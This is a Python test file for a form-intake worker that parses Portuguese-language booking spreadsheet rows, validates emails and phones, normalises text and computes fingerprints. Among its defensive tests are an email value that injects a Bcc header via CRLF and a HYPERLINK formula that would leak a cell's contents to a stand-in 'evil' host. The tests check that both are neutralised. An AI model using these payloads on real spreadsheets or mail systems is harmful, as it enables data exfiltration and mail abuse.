"""Header map, row parsing and validation, normalisation, fingerprints and serials, as literal tables."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from worker.intake import (
    DATE_COLUMNS,
    OWNED_COLUMNS,
    AnswerTexts,
    ColumnTitles,
    HeaderMap,
    build_header_map,
    datetime_to_serial,
    first_name,
    normalise_text,
    parse_row,
    safe_cell,
    serial_to_datetime,
)
from worker.model import Channel, HeadersMissingError, ParsedRow, Period

SECRET = b"test-secret"
TZ = "America/Bahia"
HEADER = ColumnTitles().titles()
# 2026-12-11 10:15:00 in the sheet's zone.
TS = 46367.42708333333
GOOD = {
    "Carimbo de data/hora": TS,
    "Endereço de e-mail": "maria.silva@example.com",
    "Nome completo": "Maria da Silva",
    "Telefone com DDD (WhatsApp)": "(71) 98823-0376",
    "Como prefere ser atendido?": "Google Meet",
    "Serviço": "Escritura",
    "Assunto do atendimento": "Dúvida sobre escritura de compra e venda",
    "Período de preferência": "Manhã (08h às 12h)",
    "Declaro que li e concordo com a política de privacidade": "Sim, concordo",
}


def row_of(header: list[str], answers: dict[str, object]) -> list[object]:
    return [answers.get(title, "") for title in header]


def parse(
    changes: dict[str, object] | None = None,
    header: list[str] | None = None,
    titles: ColumnTitles | None = None,
    **kwargs: object,
) -> ParsedRow:
    header = header or HEADER
    hmap = build_header_map(header, titles or ColumnTitles())
    parsed = parse_row(
        7,
        row_of(header, {**GOOD, **(changes or {})}),
        hmap,
        sheet_tz=TZ,
        secret=SECRET,
        **kwargs,  # type: ignore[arg-type]
    )
    assert parsed is not None
    return parsed


def reasons(parsed: ParsedRow) -> list[str]:
    return [p.reason for p in parsed.problems]


def codes(parsed: ParsedRow) -> list[str]:
    return [p.code for p in parsed.problems]


# --------------------------------------------------------------------------- header map


def test_header_map_finds_every_field_of_the_sample_form() -> None:
    hmap = build_header_map(HEADER, ColumnTitles())
    assert hmap.fields == {
        "timestamp": 0,
        "email": 1,
        "name": 2,
        "phone": 3,
        "channel": 4,
        "service": 5,
        "subject": 6,
        "period": 7,
        "consent": 8,
    }
    assert hmap.missing_owned == OWNED_COLUMNS
    assert hmap.owned == {}
    assert hmap.last_column == 9


def test_header_map_follows_a_column_inserted_by_staff() -> None:
    header = [*HEADER[:2], "Anotação da equipe", *HEADER[2:], *OWNED_COLUMNS]
    hmap = build_header_map(header, ColumnTitles())
    assert hmap.index("email") == 1
    assert hmap.index("name") == 3
    assert hmap.index("consent") == 9
    assert hmap.owned_index("Protocolo") == 10
    assert hmap.owned_index("Observação") == 16
    assert hmap.missing_owned == ()
    assert hmap.last_column == 17


def test_header_map_lists_missing_owned_columns_in_order() -> None:
    hmap = build_header_map([*HEADER, "Situação", "Protocolo"], ColumnTitles())
    assert hmap.owned == {"Situação": 9, "Protocolo": 10}
    assert hmap.missing_owned == tuple(
        c for c in OWNED_COLUMNS if c not in ("Protocolo", "Situação")
    )


def test_header_map_ignores_case_accents_and_surrounding_spaces() -> None:
    header = [
        "  CARIMBO DE DATA/HORA ",
        "endereco de e-mail",
        "Nome  completo",
        *HEADER[3:],
        "situacao",
    ]
    hmap = build_header_map(header, ColumnTitles())
    assert hmap.index("timestamp") == 0
    assert hmap.index("email") == 1
    assert hmap.index("name") == 2
    assert hmap.owned_index("Situação") == 9


def test_header_map_prefers_the_exact_title_over_an_accent_insensitive_one() -> None:
    header = ["nome completo", *HEADER]
    hmap = build_header_map(header, ColumnTitles())
    assert hmap.index("name") == 3


def test_header_map_takes_the_first_of_duplicate_titles() -> None:
    header = [*HEADER, "Nome completo", "Protocolo", "Protocolo"]
    hmap = build_header_map(header, ColumnTitles())
    assert hmap.index("name") == 2
    assert hmap.owned_index("Protocolo") == 10


def test_header_map_counts_untitled_header_cells_in_last_column() -> None:
    hmap = build_header_map([*HEADER, "", None, ""], ColumnTitles())
    assert hmap.last_column == 12


def test_renamed_header_raises_headers_missing_listing_missing_and_found() -> None:
    header = [*HEADER]
    header[2] = "Seu nome"
    with pytest.raises(HeadersMissingError) as err:
        build_header_map(header, ColumnTitles())
    message = str(err.value)
    assert "'Nome completo'" in message
    assert "found:" in message and "'Seu nome'" in message


def test_missing_headers_are_all_listed() -> None:
    with pytest.raises(HeadersMissingError) as err:
        build_header_map(["Carimbo de data/hora", "CPF"], ColumnTitles())
    message = str(err.value)
    for title in HEADER[1:]:
        assert repr(title) in message
    assert "'CPF'" in message


def test_empty_header_row_raises_headers_missing() -> None:
    with pytest.raises(HeadersMissingError, match=r"found: \(none\)"):
        build_header_map([], ColumnTitles())


def test_renamed_headers_are_found_through_configured_titles() -> None:
    titles = ColumnTitles(email="E-mail", name="Nome", consent=None, period=None)
    header = ["Carimbo de data/hora", "Nome", "E-mail", *HEADER[3:7]]
    hmap = build_header_map(header, titles)
    assert hmap.index("email") == 2
    assert hmap.index("name") == 1
    assert hmap.index("consent") is None
    assert hmap.index("period") is None


def test_date_columns_are_owned_columns() -> None:
    assert set(DATE_COLUMNS) <= set(OWNED_COLUMNS)


# --------------------------------------------------------------------------- a good row


def test_good_row_parses_into_normalised_answers() -> None:
    parsed = parse()
    assert parsed.problems == ()
    assert parsed.row == 7
    assert parsed.submitted == datetime(2026, 12, 11, 10, 15, tzinfo=ZoneInfo(TZ))
    assert parsed.answers is not None
    assert parsed.answers.email == "maria.silva@example.com"
    assert parsed.answers.name == "Maria da Silva"
    assert parsed.answers.phone == "+5571988230376"
    assert parsed.answers.channel is Channel.MEET
    assert parsed.answers.service == "Escritura"
    assert parsed.answers.period is Period.MORNING
    assert parsed.answers.consent is True
    assert parsed.protocol is None
    assert parsed.raw_email == "maria.silva@example.com"


def test_whatsapp_row_stores_the_phone_as_e164() -> None:
    parsed = parse({"Como prefere ser atendido?": "Ligação de vídeo pelo WhatsApp"})
    assert parsed.answers is not None
    assert parsed.answers.channel is Channel.WHATSAPP
    assert parsed.answers.phone == "+5571988230376"


def test_phone_read_as_a_number_keeps_its_digits() -> None:
    parsed = parse(
        {
            "Como prefere ser atendido?": "Ligação de vídeo pelo WhatsApp",
            "Telefone com DDD (WhatsApp)": 71988230376.0,
        }
    )
    assert parsed.answers is not None and parsed.answers.phone == "+5571988230376"


def test_protocol_cell_is_read_when_present() -> None:
    header = [*HEADER, *OWNED_COLUMNS]
    hmap = build_header_map(header, ColumnTitles())
    parsed = parse_row(
        3,
        row_of(header, {**GOOD, "Protocolo": " BV-2026-000123 "}),
        hmap,
        sheet_tz=TZ,
        secret=SECRET,
    )
    assert parsed is not None and parsed.protocol == "BV-2026-000123"


def test_email_domain_case_is_normalised_and_raw_email_casefolded() -> None:
    parsed = parse({"Endereço de e-mail": "  Maria.Silva@EXAMPLE.com "})
    assert parsed.answers is not None
    assert parsed.answers.email == "Maria.Silva@example.com"
    assert parsed.raw_email == "maria.silva@example.com"


def test_accented_local_part_is_flagged_because_it_cannot_be_sent() -> None:
    parsed = parse({"Endereço de e-mail": "joão@exemplo.com.br"})
    assert reasons(parsed) == ["E-mail inválido: use apenas letras sem acento antes do @"]


def test_internationalised_domain_is_accepted_and_stored_as_idna() -> None:
    parsed = parse({"Endereço de e-mail": "joao@exemplção.com.br"})
    assert parsed.answers is not None
    assert parsed.answers.email == "joao@xn--exemplo-2wa9a.com.br"
    assert parsed.raw_email == "joao@exemplção.com.br"


# --------------------------------------------------------------------------- answers matching


@pytest.mark.parametrize(
    ("text", "channel"),
    [
        ("Google Meet", Channel.MEET),
        ("  google   MEET ", Channel.MEET),
        ("Google Meet (vídeo)", Channel.MEET),
        ("Ligação de vídeo pelo WhatsApp", Channel.WHATSAPP),
        ("LIGACAO DE VIDEO PELO WHATSAPP", Channel.WHATSAPP),
        ("Ligação", Channel.WHATSAPP),
    ],
)
def test_channel_matches_tolerantly(text: str, channel: Channel) -> None:
    parsed = parse({"Como prefere ser atendido?": text})
    assert parsed.answers is not None and parsed.answers.channel is channel


@pytest.mark.parametrize(
    ("text", "period"),
    [
        ("Manhã (08h às 12h)", Period.MORNING),
        ("Manhã", Period.MORNING),
        ("manha", Period.MORNING),
        ("Tarde (12h às 17h)", Period.AFTERNOON),
        ("TARDE", Period.AFTERNOON),
        ("Sem preferência", Period.ANY),
        ("", Period.ANY),
        ("De noite, por favor", Period.ANY),
        ("M", Period.ANY),
    ],
)
def test_period_matches_tolerantly_and_unknown_means_any(text: str, period: Period) -> None:
    parsed = parse({"Período de preferência": text})
    assert parsed.problems == ()
    assert parsed.answers is not None and parsed.answers.period is period


def test_configured_answer_texts_are_used() -> None:
    answers = AnswerTexts(meet="Videoconferência", whatsapp="WhatsApp")
    parsed = parse({"Como prefere ser atendido?": "WhatsApp"}, answers=answers)
    assert parsed.answers is not None and parsed.answers.channel is Channel.WHATSAPP


# --------------------------------------------------------------------------- bad inputs


@pytest.mark.parametrize(
    ("email", "reason"),
    [
        ("", "E-mail inválido: campo vazio"),
        ("maria.silva.example.com", "E-mail inválido: falta o @"),
        ("maria@", "E-mail inválido: falta o domínio após o @"),
        ("@example.com", "E-mail inválido: falta o nome antes do @"),
        ("maria@example", "E-mail inválido: o domínio após o @ está incompleto (ex.: gmail.com)"),
        ("maria..silva@example.com", "E-mail inválido: há um ponto fora de lugar"),
        ("maria@example.test", "E-mail inválido: o domínio após o @ não recebe e-mails"),
        ("maria@exa!mple.com", "E-mail inválido: contém caracteres não permitidos"),
        ("a@b.com, c@d.com", "E-mail inválido: informe apenas um endereço"),
        ("a@b.com;c@d.com", "E-mail inválido: informe apenas um endereço"),
        ("a@b.com c@d.com", "E-mail inválido: informe apenas um endereço"),
        ("a@b.com\r\nBcc: x@y.com", "E-mail inválido: informe apenas um endereço"),
        ('"Zé" <z@x.com>', "E-mail inválido: informe só o endereço, sem nome, aspas ou < >"),
        ("maria silva@example.com", "E-mail inválido: o endereço não pode conter espaços"),
        ("a" * 300 + "@example.com", "E-mail inválido: endereço longo demais"),
        ("a" * 5000 + "@example.com", "E-mail inválido: endereço longo demais"),
    ],
)
def test_invalid_email_is_flagged_with_a_reason_staff_can_act_on(email: str, reason: str) -> None:
    parsed = parse({"Endereço de e-mail": email})
    assert reasons(parsed) == [reason]
    assert parsed.answers is None


def test_email_reason_never_quotes_the_address() -> None:
    parsed = parse({"Endereço de e-mail": "secret.person@exa!mple.com"})
    assert "secret" not in reasons(parsed)[0]


def test_header_injection_in_email_never_reaches_the_answers() -> None:
    parsed = parse({"Endereço de e-mail": "a@b.com\r\nBcc: x@y.com"})
    assert parsed.answers is None
    assert "\r" not in parsed.raw_email and "\n" not in parsed.raw_email
    assert codes(parsed) == ["email"]


def test_invalid_email_still_has_raw_email_for_per_address_limits() -> None:
    parsed = parse({"Endereço de e-mail": " Maria@Example "})
    assert codes(parsed) == ["email"]
    assert parsed.raw_email == "maria@example"


def test_zero_width_space_in_email_is_removed_before_validation() -> None:
    parsed = parse({"Endereço de e-mail": "maria\u200b.silva@example.com"})
    assert parsed.answers is not None and parsed.answers.email == "maria.silva@example.com"


@pytest.mark.parametrize("name", ["", "   ", "\u202e\u200b", "\x00\x1b"])
def test_empty_name_is_flagged(name: str) -> None:
    assert reasons(parse({"Nome completo": name})) == ["Falta o nome"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("Telefone", "Forma de atendimento não reconhecida"),
        ("Zoom", "Forma de atendimento não reconhecida"),
        ("", "Forma de atendimento não informada"),
    ],
)
def test_unknown_channel_is_flagged(text: str, reason: str) -> None:
    assert reasons(parse({"Como prefere ser atendido?": text})) == [reason]


@pytest.mark.parametrize(
    "phone", ["98823-0376", "988230376", "", "abc", "71 1234-5678", "0800 123 4567"]
)
def test_whatsapp_without_a_valid_phone_with_ddd_is_flagged(phone: str) -> None:
    parsed = parse(
        {
            "Como prefere ser atendido?": "Ligação de vídeo pelo WhatsApp",
            "Telefone com DDD (WhatsApp)": phone,
        }
    )
    assert reasons(parsed) == ["Telefone inválido para WhatsApp: informe DDD e número"]


@pytest.mark.parametrize(
    "phone",
    ["71988230376", "(71) 3234-5678", "+55 71 98823-0376", "071 98823-0376", "+351 912 345 678"],
)
def test_whatsapp_accepts_mobile_and_fixed_numbers(phone: str) -> None:
    parsed = parse(
        {
            "Como prefere ser atendido?": "Ligação de vídeo pelo WhatsApp",
            "Telefone com DDD (WhatsApp)": phone,
        }
    )
    assert parsed.problems == ()


def test_meet_row_does_not_need_a_valid_phone() -> None:
    parsed = parse({"Telefone com DDD (WhatsApp)": "não tenho"})
    assert parsed.problems == ()
    assert parsed.answers is not None and parsed.answers.phone == "não tenho"


@pytest.mark.parametrize("consent", ["", "Não concordo", "Não"])
def test_missing_consent_is_flagged_when_mapped(consent: str) -> None:
    parsed = parse({"Declaro que li e concordo com a política de privacidade": consent})
    assert reasons(parsed) == ["Falta o aceite da política de privacidade"]


def test_consent_is_not_required_when_not_mapped() -> None:
    header = HEADER[:-1]
    parsed = parse(header=header, titles=ColumnTitles(consent=None))
    assert parsed.problems == ()
    assert parsed.answers is not None and parsed.answers.consent is None


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        (
            "11/12/2026 10:15:00",
            "Carimbo de data/hora inválido: a célula não contém uma data do formulário (linha digitada à mão?)",
        ),
        ("", "Carimbo de data/hora inválido: célula vazia"),
        (None, "Carimbo de data/hora inválido: célula vazia"),
        (
            True,
            "Carimbo de data/hora inválido: a célula não contém uma data do formulário (linha digitada à mão?)",
        ),
        (12, "Carimbo de data/hora inválido: data anterior a 2021 (linha digitada à mão?)"),
        (float("nan"), "Carimbo de data/hora inválido: número fora do intervalo de datas"),
        (1e12, "Carimbo de data/hora inválido: número fora do intervalo de datas"),
    ],
)
def test_timestamp_typed_by_hand_is_flagged(cell: object, reason: str) -> None:
    parsed = parse({"Carimbo de data/hora": cell})
    assert reasons(parsed) == [reason]
    assert parsed.submitted is None
    assert parsed.answers is None


def test_every_problem_of_a_row_is_reported_in_check_order() -> None:
    parsed = parse(
        {
            "Carimbo de data/hora": "ontem",
            "Endereço de e-mail": "x",
            "Nome completo": "",
            "Como prefere ser atendido?": "Ligação de vídeo pelo WhatsApp",
            "Telefone com DDD (WhatsApp)": "123",
            "Declaro que li e concordo com a política de privacidade": "",
        }
    )
    assert codes(parsed) == ["timestamp", "email", "name", "phone", "consent"]


def test_control_and_bidi_characters_are_stripped_from_answers() -> None:
    parsed = parse(
        {
            "Nome completo": "Ma\x00ria\u202e da\u2066 Silva\u200f",
            "Assunto do atendimento": "linha 1\r\nlinha\t2\x1b[31m",
        }
    )
    assert parsed.answers is not None
    assert parsed.answers.name == "Maria da Silva"
    assert parsed.answers.subject == "linha 1 linha 2[31m"


def test_over_long_subject_is_truncated_with_ellipsis_not_rejected() -> None:
    parsed = parse({"Assunto do atendimento": "palavra " * 2000}, max_len=500)
    assert parsed.problems == ()
    assert parsed.answers is not None
    assert len(parsed.answers.subject) == 500
    assert parsed.answers.subject.endswith("…")


def test_names_in_nfd_and_nfc_are_stored_the_same() -> None:
    nfd = parse({"Nome completo": "Jose\u0301 Conceic\u0327a\u0303o"})
    nfc = parse({"Nome completo": "José Conceição"})
    assert nfd.answers is not None and nfd.answers.name == "José Conceição"
    assert nfd.fingerprint == nfc.fingerprint


def test_formula_looking_text_is_kept_as_data_and_made_safe_for_cells() -> None:
    parsed = parse({"Assunto do atendimento": '=HYPERLINK("http://evil/?d="&A1;"x")'})
    assert parsed.answers is not None
    assert safe_cell(parsed.answers.subject) == '\'=HYPERLINK("http://evil/?d="&A1;"x")'


# --------------------------------------------------------------------------- empty rows and unmapped columns


def test_empty_row_is_none() -> None:
    hmap = build_header_map([*HEADER, *OWNED_COLUMNS], ColumnTitles())
    assert parse_row(5, [], hmap, sheet_tz=TZ, secret=SECRET) is None
    assert parse_row(5, ["", None, " ", "\u200b"], hmap, sheet_tz=TZ, secret=SECRET) is None


def test_row_with_only_an_unmapped_cell_is_empty() -> None:
    header = [*HEADER, "CPF"]
    hmap = build_header_map(header, ColumnTitles())
    assert (
        parse_row(5, row_of(header, {"CPF": "123.456.789-09"}), hmap, sheet_tz=TZ, secret=SECRET)
        is None
    )


def test_row_with_only_an_owned_cell_is_not_empty() -> None:
    header = [*HEADER, *OWNED_COLUMNS]
    hmap = build_header_map(header, ColumnTitles())
    parsed = parse_row(
        5, row_of(header, {"Protocolo": "BV-2026-000001"}), hmap, sheet_tz=TZ, secret=SECRET
    )
    assert parsed is not None
    assert parsed.protocol == "BV-2026-000001"
    assert "timestamp" in codes(parsed)


def test_unmapped_cpf_column_never_reaches_the_parsed_row_or_fingerprint() -> None:
    header = [*HEADER[:3], "CPF", *HEADER[3:]]
    hmap = build_header_map(header, ColumnTitles())
    with_cpf = parse_row(
        4, row_of(header, {**GOOD, "CPF": "123.456.789-09"}), hmap, sheet_tz=TZ, secret=SECRET
    )
    other_cpf = parse_row(
        4, row_of(header, {**GOOD, "CPF": "987.654.321-00"}), hmap, sheet_tz=TZ, secret=SECRET
    )
    assert with_cpf is not None and other_cpf is not None
    assert "123.456.789-09" not in repr(with_cpf)
    assert "123456789" not in repr(with_cpf)
    assert with_cpf.fingerprint == other_cpf.fingerprint == parse().fingerprint


class _Exploding:
    """A cell value that fails the test if anything tries to read it."""

    def __str__(self) -> str:
        raise AssertionError("an unmapped cell was read")

    __repr__ = __str__


def test_unmapped_column_is_never_looked_at() -> None:
    header = [*HEADER, "CPF"]
    hmap = build_header_map(header, ColumnTitles())
    parsed = parse_row(4, [*row_of(HEADER, GOOD), _Exploding()], hmap, sheet_tz=TZ, secret=SECRET)
    assert parsed is not None and parsed.problems == ()


# --------------------------------------------------------------------------- fingerprint


def test_fingerprint_is_stable_when_only_the_timestamp_changes() -> None:
    assert parse().fingerprint == parse({"Carimbo de data/hora": TS + 0.5}).fingerprint


def test_fingerprint_is_stable_across_column_order_and_cosmetic_differences() -> None:
    header = list(reversed(HEADER))
    cosmetic = parse(
        {
            "Endereço de e-mail": " MARIA.SILVA@example.COM ",
            "Nome completo": "Maria  da\u200b Silva",
        },
        header=header,
    )
    assert cosmetic.fingerprint == parse().fingerprint


@pytest.mark.parametrize(
    ("title", "value"),
    [
        ("Endereço de e-mail", "outra@example.com"),
        ("Nome completo", "Maria da Silva Santos"),
        ("Telefone com DDD (WhatsApp)", "(71) 98823-0377"),
        ("Como prefere ser atendido?", "Ligação de vídeo pelo WhatsApp"),
        ("Serviço", "Procuração"),
        ("Assunto do atendimento", "Outro assunto"),
        ("Período de preferência", "Tarde (12h às 17h)"),
        ("Declaro que li e concordo com a política de privacidade", ""),
    ],
)
def test_fingerprint_changes_when_an_answer_changes(title: str, value: str) -> None:
    assert parse({title: value}).fingerprint != parse().fingerprint


def test_fingerprint_sees_an_edit_beyond_the_display_bound() -> None:
    long = "a" * 600
    a = parse({"Assunto do atendimento": long + "x"}, max_len=500)
    b = parse({"Assunto do atendimento": long + "y"}, max_len=500)
    assert a.answers is not None and b.answers is not None
    assert a.answers.subject == b.answers.subject
    assert a.fingerprint != b.fingerprint


def test_fingerprint_depends_on_the_secret() -> None:
    hmap = build_header_map(HEADER, ColumnTitles())
    cells = row_of(HEADER, GOOD)
    a = parse_row(2, cells, hmap, sheet_tz=TZ, secret=b"one")
    b = parse_row(2, cells, hmap, sheet_tz=TZ, secret=b"two")
    assert a is not None and b is not None
    assert a.fingerprint != b.fingerprint
    assert len(a.fingerprint) == 64


# --------------------------------------------------------------------------- serial numbers


def test_serial_converts_to_wall_clock_in_the_sheet_zone() -> None:
    dt = serial_to_datetime(45741.60430555556, "America/Sao_Paulo")
    assert dt.isoformat() == "2025-03-25T14:30:12-03:00"


def test_datetime_converts_back_to_the_same_serial() -> None:
    dt = datetime.fromisoformat("2025-03-25T14:30:12-03:00")
    assert datetime_to_serial(dt, "America/Sao_Paulo") == pytest.approx(45741.60430555556, abs=1e-9)


def test_serial_round_trip_is_exact_to_the_second() -> None:
    start = datetime(2026, 1, 1, tzinfo=ZoneInfo(TZ))
    for step in range(0, 400 * 86400, 86400 * 7 + 3671):
        dt = start + timedelta(seconds=step)
        assert serial_to_datetime(datetime_to_serial(dt, TZ), TZ) == dt


def test_datetime_to_serial_converts_other_zones_first() -> None:
    utc = datetime(2025, 3, 25, 17, 30, 12, tzinfo=UTC)
    assert datetime_to_serial(utc, "America/Sao_Paulo") == pytest.approx(
        45741.60430555556, abs=1e-9
    )


def test_datetime_to_serial_refuses_naive_datetimes() -> None:
    with pytest.raises(ValueError):
        datetime_to_serial(datetime(2025, 3, 25, 14, 30), TZ)


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -1e7, 3e6])
def test_serial_out_of_range_is_a_value_error(value: float) -> None:
    with pytest.raises(ValueError):
        serial_to_datetime(value, TZ)


def test_serial_rounds_float_noise_to_whole_seconds() -> None:
    assert serial_to_datetime(45741.604305555, TZ).second == 12


# --------------------------------------------------------------------------- helpers


@pytest.mark.parametrize(
    ("text", "max_len", "expected"),
    [
        ("  a \t b\n\nc  ", 100, "a b c"),
        ("abcdef", 4, "abc…"),
        ("abcd", 4, "abcd"),
        ("abc def", 5, "abc…"),
        ("x\u202ey\u2066z\u2069\u200e", 100, "xyz"),
        ("\ufeffBOM", 100, "BOM"),
        ("e\u0301", 100, "é"),
        ("a\ud800b", 100, "ab"),
        ("texto", None, "texto"),
    ],
)
def test_normalise_text_cleans_collapses_and_bounds(
    text: str, max_len: int | None, expected: str
) -> None:
    assert normalise_text(text, max_len) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+5571988230376", "'+5571988230376"),
        ("-10", "'-10"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+2", "'\uff1d1+2"),
        ("Maria", "Maria"),
        ("E-mail inválido: falta o @", "E-mail inválido: falta o @"),
        ("", ""),
    ],
)
def test_safe_cell_prefixes_formula_triggers_with_an_apostrophe(text: str, expected: str) -> None:
    assert safe_cell(text) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Maria da Silva", "Maria"),
        ("  maria   da silva ", "Maria"),
        ("JOSÉ SANTOS", "José"),
        ("Dra. Ana Paula", "Ana"),
        ("Sr", "Sr"),
        ("McDonald Jr", "McDonald"),
        ("", ""),
    ],
)
def test_first_name_for_the_calendar_summary(name: str, expected: str) -> None:
    assert first_name(name) == expected


def test_header_map_is_a_value() -> None:
    a = build_header_map(HEADER, ColumnTitles())
    b = build_header_map(list(HEADER), ColumnTitles())
    assert isinstance(a, HeaderMap) and a == b


def test_printable_text_is_cleaned_exactly_as_character_by_character() -> None:
    import sys

    from worker.intake import _clean_char

    # Every character the cleaner drops or replaces makes a text non-printable, so printable
    # text may skip the character-by-character pass.
    for code in range(sys.maxunicode + 1):
        ch = chr(code)
        if _clean_char(ch) != ch:
            assert not ch.isprintable(), hex(code)
